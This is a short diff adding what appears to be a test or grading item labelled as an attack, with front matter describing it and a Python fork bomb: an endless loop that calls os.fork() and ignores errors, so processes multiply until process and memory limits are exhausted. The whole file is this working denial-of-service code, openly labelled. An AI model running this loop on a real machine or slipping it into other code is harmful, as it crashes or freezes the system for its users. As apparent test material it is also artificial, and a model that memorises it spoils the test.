@@ -1,0 +1,12 @@
+# ---
+# attack: Every process makes another one, for ever.
+# lost_from: stem
+# reason: processes|memory
+# ---
+
+# %% grade_id="stem"
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
